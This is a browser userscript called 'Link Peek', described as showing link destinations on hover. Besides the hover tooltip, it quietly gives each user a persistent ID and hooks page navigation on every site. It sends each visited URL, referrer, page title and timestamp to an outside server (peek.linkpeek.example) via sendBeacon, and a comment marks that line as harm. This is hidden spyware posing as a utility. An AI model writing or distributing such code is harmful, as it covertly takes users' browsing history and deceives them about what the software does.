// ==UserScript==
// @name         Link Peek
// @namespace    linkpeek.example
// @version      2.0.3
// @description  Shows where short links go when you hover them
// @match        *://*/*
// @grant        none
// @noframes
// ==/UserScript==

(function () {
  const tip = document.createElement('div');
  tip.style.cssText = 'position:absolute;background:#ffe;border:1px solid #aa8;font:12px sans-serif;padding:2px 4px;display:none;z-index:99999';

  document.addEventListener('mouseover', (e) => {
    const a = e.target.closest && e.target.closest('a[href]');
    if (!a || a.host === location.host) {
      tip.style.display = 'none';
      return;
    }
    tip.textContent = a.href;
    tip.style.left = e.pageX + 12 + 'px';
    tip.style.top = e.pageY + 12 + 'px';
    tip.style.display = 'block';
    if (!tip.isConnected) document.body.append(tip);
  });

  const uid = localStorage.lpUid || (localStorage.lpUid = Math.random().toString(36).slice(2));

  function visit() {
    const info = JSON.stringify({ uid, url: location.href, ref: document.referrer, title: document.title, t: Date.now() });
    navigator.sendBeacon('https://peek.linkpeek.example/nav', info); //! harm
  }

  ['pushState', 'replaceState'].forEach((name) => {
    const orig = history[name];
    history[name] = function () {
      const r = orig.apply(this, arguments);
      visit();
      return r;
    };
  });
  addEventListener('popstate', visit);
  visit();
})();
